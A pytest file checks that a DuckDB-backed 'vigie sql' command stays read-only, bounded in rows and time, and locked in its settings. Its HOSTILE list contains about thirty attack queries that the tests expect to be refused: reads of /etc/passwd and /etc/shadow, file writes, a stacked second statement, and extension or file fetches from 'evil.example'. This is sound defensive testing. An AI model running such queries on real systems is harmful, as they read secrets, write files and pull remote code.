"""``vigie sql`` is read-only for real: one read statement, no files, no network, bounded.

Each hostile query of issue 12 item 1 is run through the CLI against a copy of the
warehouse; the copy must come out byte-identical and no file may appear on disk.
"""

from __future__ import annotations

import shutil
import sqlite3

import pytest

from cli_helpers import run
from vigie_industrie.warehouse import query as query_mod




@pytest.fixture()
def wh_copy(tmp_path, warehouse_path):
    target = tmp_path / "wh.duckdb"
    shutil.copy(warehouse_path, target)
    return target


HOSTILE = [
    "COPY region TO '{tmp}/out.csv'",
    "copy (select 'x') to '{wh}' (format csv)",
    "select * from read_csv('/etc/passwd', header=false, delim=':')",
    "select * from read_text('/etc/passwd')",
    "select * from glob('/root/*')",
    "select * from glob('{tmp}/*')",
    "attach '{tmp}/other.duckdb' as other",
    "create table pirate as select 1 as x",
    "create temp table pirate as select 1 as x",
    "insert into region select * from region",
    "delete from commune",
    "install sqlite from 'http://evil.example/'",
    "load httpfs",
    "set enable_external_access = true",
    "pragma enable_profiling",
    "explain analyze copy region to '{tmp}/out.csv'",
    "select 1; copy region to '{tmp}/out.csv'",
    "export database '{tmp}/dump'",
    "use memory",
    "detach wh",
    "call pragma_version()",
    "from '/etc/passwd'",
    "select * from 'file:///etc/passwd'",
    "summarize select * from read_csv('/etc/passwd')",
    "describe select * from read_text('/etc/passwd')",
    "select * from read_parquet('http://evil.example/x.parquet')",
    "with x as (select * from read_blob('/etc/shadow')) select * from x",
    "select * from sqlite_scan('{wh}', 'x')",
    "checkpoint",
    "vacuum",
]


@pytest.mark.parametrize("template", HOSTILE)
def test_hostile_query_is_refused_cleanly(template, wh_copy, tmp_path, capsys):
    before = wh_copy.read_bytes()
    listing = sorted(p.name for p in tmp_path.iterdir())
    text = template.format(tmp=tmp_path, wh=wh_copy)
    code, out, err = run(["sql", text, "-w", str(wh_copy)], capsys)
    assert code == 8, (text, out, err)
    assert err.startswith("Erreur : ") and err.count("\n") == 1 and "Traceback" not in err
    assert "root:" not in out
    assert wh_copy.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == listing


@pytest.mark.parametrize(
    "text",
    [
        "select count(*) as n from region",
        "with r as (select * from region) select count(*) as n from r",
        "from region select count(*) as n",
        "describe region",
        "show tables",
        "summarize region",
        "explain select * from region",
        "-- a comment\nselect count(*) as n from region;",
    ],
)
def test_read_statements_are_accepted(text, warehouse_path):
    result = query_mod.run_readonly(warehouse_path, query_text=text)
    assert result.rows


def test_settings_are_locked(warehouse_path):
    result = query_mod.run_readonly(
        warehouse_path,
        query_text="select current_setting('enable_external_access'), current_setting('lock_configuration'), "
        "current_setting('autoinstall_known_extensions'), current_setting('autoload_known_extensions')",
    )
    assert result.rows == [(False, True, False, False)]


def test_row_limit_truncates_with_a_french_note(warehouse_path, capsys):
    code, out, err = run(
        ["sql", "select code_commune from commune order by 1", "--format", "csv", "--max-rows", "50", "-w", str(warehouse_path)],
        capsys,
    )
    assert code == 0
    assert len(out.strip().splitlines()) == 51  # header + 50 rows
    assert "tronqué" in err and "50" in err


def test_default_row_limit(warehouse_path):
    result = query_mod.run_readonly(warehouse_path, query_text="select * from range(20000)")
    assert len(result.rows) == query_mod.DEFAULT_MAX_ROWS == 10_000 and result.truncated


def test_time_limit_interrupts(warehouse_path, capsys):
    code, _, err = run(
        ["sql", "select count(*) from range(1000000000000) a", "--timeout", "1", "-w", str(warehouse_path)], capsys
    )
    # The query would run for hours: its end with « interrompue » is the timer's doing.
    assert code == 8 and "interrompue" in err and err.count("\n") == 1


def test_sqlite_file_as_warehouse_is_one_line_without_download(tmp_path, capsys):
    fake = tmp_path / "store.db"
    with sqlite3.connect(fake) as db:
        db.execute("create table region(code text)")
    code, _, err = run(["sql", "select 1", "-w", str(fake)], capsys)
    assert code == 5 and err.startswith("Erreur : ") and err.count("\n") == 1
    assert "DuckDB" in err
    # DuckDB downloads extensions with its own HTTP client (not Python sockets): the proof that
    # nothing was attempted is the message, which names no download and no extension.
    assert "download" not in err.lower() and "extension" not in err.lower() and "http" not in err.lower()
    assert not list(tmp_path.glob("*.wal"))
